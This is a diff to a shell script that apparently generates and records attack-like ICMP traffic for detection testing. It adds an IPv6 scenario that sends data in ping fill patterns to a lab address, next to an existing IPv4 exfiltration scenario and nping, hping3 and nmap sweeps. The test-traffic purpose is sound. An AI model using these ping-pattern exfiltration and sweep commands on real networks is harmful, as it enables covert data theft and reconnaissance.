@@ -6,6 +6,7 @@
 #   record_extra.sh SCENARIO OUT.pcap
 #
 #   exfil_ping_pattern  a file sent 16 bytes a time in ping -p fill patterns (420 pings)
+#   exfil_ping6_pattern the same over ICMPv6 to a server inside (60 pings)
 #   sweep_nping         nping --icmp over 10.78.0.32-63
 #   sweep_hping_ts      hping3 timestamp requests, one process per target, 10.78.0.32-63
 #   sweep_nmap_data     nmap -sn -PE with 40 random bytes in every probe
@@ -21,6 +22,9 @@ case $sc in
   exfil_ping_pattern)
     head -c 8000 /dev/urandom | xxd -p -c 16 | head -n 420 > /tmp/ih_lines
     while read -r l; do x ih_atk timeout 2 ping -c 1 -W 1 -p "$l" 203.0.113.7 >/dev/null 2>&1; done < /tmp/ih_lines ;;
+  exfil_ping6_pattern)
+    head -c 2000 /dev/urandom | xxd -p -c 16 | head -n 60 > /tmp/ih_lines6
+    while read -r l; do x ih_atk timeout 2 ping -6 -c 1 -W 1 -p "$l" fd78::28 >/dev/null 2>&1; done < /tmp/ih_lines6 ;;
   sweep_nping)
     x ih_atk timeout 60 nping --icmp -c 1 --rate 50 -q 10.78.0.32-63 >/dev/null 2>&1 ;;
   sweep_hping_ts)
